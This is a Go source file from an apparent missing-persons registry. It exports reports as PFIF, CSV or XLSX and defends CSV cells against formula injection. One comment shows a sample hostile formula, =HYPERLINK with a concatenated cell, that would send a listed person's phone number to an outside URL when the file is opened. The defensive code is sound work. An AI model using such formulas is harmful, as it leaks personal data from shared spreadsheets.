package exchange

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"strconv"
	"strings"
	"time"

	"github.com/xuri/excelize/v2"

	"tuys/data"
	"tuys/exchange/pfif"
)

// ExportPFIF writes the selected reports as a PFIF 1.4 document and
// returns how many persons it wrote.
func ExportPFIF(ctx context.Context, st data.Store, w io.Writer, o ExportOptions) (int, error) {
	is, err := data.Imports(st)
	if err != nil {
		return 0, err
	}
	pw := pfif.NewWriter(w)
	now, n := o.Now, 0
	if now.IsZero() {
		now = time.Now().UTC()
	}
	err = eachReport(ctx, st, o, func(r *data.Report, orig data.ImportOrigin) error {
		var notes []data.Note
		linked := ""
		if r.Status != data.StatusRemoved {
			if notes, err = st.ListNotes(ctx, r.ID); err != nil {
				return err
			}
			if linked, err = linkedRecordID(ctx, st, is, o, r.LinkedID); err != nil {
				return err
			}
		}
		p := o.toPerson(r, orig, notes, linked, now)
		pw.Person(&p)
		n++
		return nil
	})
	if err != nil {
		return n, fmt.Errorf("export PFIF: %w", err)
	}
	return n, pw.Close()
}

func linkedRecordID(ctx context.Context, st data.Store, is data.ImportStore, o ExportOptions, id string) (string, error) {
	if id == "" {
		return "", nil
	}
	origins, err := is.ImportOrigins(ctx, []string{id})
	if err != nil {
		return "", err
	}
	return o.PersonRecordID(&data.Report{ID: id}, origins[id]), nil
}

// tableColumns are the columns of a CSV or XLSX export: the public fields,
// then, with Contacts, the contact fields.
var tableColumns = []string{"id", "kind", "full_name", "given_name", "family_name", "patronymic", "sex", "birth_year",
	"birth_year_approximate", "city", "region", "country", "description", "status", "linked_report_id", "created_at", "expires_at"}

var contactColumns = []string{"contact_name", "contact_phone", "relation", "last_location", "source_name"}

func tableRow(r *data.Report, o ExportOptions) []string {
	p := data.Public(r)
	year := ""
	if p.BirthYear != 0 {
		year = strconv.Itoa(p.BirthYear)
	}
	row := []string{p.ID, string(p.Kind), p.FullName, p.GivenName, p.FamilyName, p.Patronymic, p.Sex, year,
		strconv.FormatBool(p.YearApprox), p.City, p.Region, p.Country, p.Description, p.Status, p.LinkedID,
		pfif.FormatTime(p.CreatedAt), pfif.FormatTime(p.ExpiresAt)}
	if o.Contacts {
		row = append(row, r.ContactName, r.ContactPhone, r.Relation, r.LastLocation, r.SourceName)
	}
	return row
}

func (o ExportOptions) header() []string {
	h := append([]string{}, tableColumns...)
	if o.Contacts {
		h = append(h, contactColumns...)
	}
	return h
}

// ExportCSV writes the selected reports (never removed ones) as UTF-8 CSV
// with a byte order mark, so Excel opens Cyrillic correctly.
func ExportCSV(ctx context.Context, st data.Store, w io.Writer, o ExportOptions) (int, error) {
	o.Removed = false
	if _, err := io.WriteString(w, "\ufeff"); err != nil {
		return 0, err
	}
	cw := csv.NewWriter(w)
	if err := cw.Write(o.header()); err != nil {
		return 0, err
	}
	n := 0
	err := eachReport(ctx, st, o, func(r *data.Report, _ data.ImportOrigin) error {
		n++
		row := tableRow(r, o)
		for i := range row {
			row[i] = asText(row[i])
		}
		return cw.Write(row)
	})
	cw.Flush()
	if err == nil {
		err = cw.Error()
	}
	if err != nil {
		return n, fmt.Errorf("export CSV: %w", err)
	}
	return n, nil
}

// formulaStarts are the first characters with which a spreadsheet reads a
// CSV cell as a formula: a city typed as =HYPERLINK("http://…?"&M2) would
// send the phone beside it away when a partner opens the list (XLSX cells
// are written as strings, which Excel never runs).
const formulaStarts = "=+-@\t\r"

// asText makes a CSV cell that a spreadsheet would read as a formula
// plain text with a leading apostrophe, which the spreadsheet hides
// (OWASP "CSV injection"); tuys import takes it off again (fromText).
func asText(cell string) string {
	if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
		return "'" + cell
	}
	return cell
}

// fromText undoes asText.
func fromText(cell string) string {
	if len(cell) > 1 && cell[0] == '\'' && strings.ContainsRune(formulaStarts, rune(cell[1])) {
		return cell[1:]
	}
	return cell
}

// ExportXLSX writes the selected reports (never removed ones) as one sheet.
func ExportXLSX(ctx context.Context, st data.Store, w io.Writer, o ExportOptions) (int, error) {
	o.Removed = false
	f := excelize.NewFile()
	defer f.Close()
	sw, err := f.NewStreamWriter("Sheet1")
	if err != nil {
		return 0, err
	}
	n := 0
	put := func(cells []string) error {
		vals := make([]any, len(cells))
		for i, c := range cells {
			vals[i] = c
		}
		cell, _ := excelize.CoordinatesToCellName(1, n+1)
		n++
		return sw.SetRow(cell, vals)
	}
	if err := put(o.header()); err != nil {
		return 0, err
	}
	err = eachReport(ctx, st, o, func(r *data.Report, _ data.ImportOrigin) error { return put(tableRow(r, o)) })
	if err == nil {
		err = sw.Flush()
	}
	if err == nil {
		_, err = f.WriteTo(w)
	}
	if err != nil {
		return n - 1, fmt.Errorf("export XLSX: %w", err)
	}
	return n - 1, nil
}
